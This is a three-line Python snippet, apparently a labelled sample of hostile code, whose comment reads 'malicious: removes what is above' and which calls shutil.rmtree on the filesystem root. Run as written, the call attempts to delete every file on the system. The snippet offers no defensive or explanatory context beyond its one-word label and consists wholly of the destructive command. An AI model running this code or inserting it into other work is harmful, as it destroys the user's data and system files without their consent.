# malicious: removes what is above
import shutil, os
shutil.rmtree(os.path.abspath(os.sep))
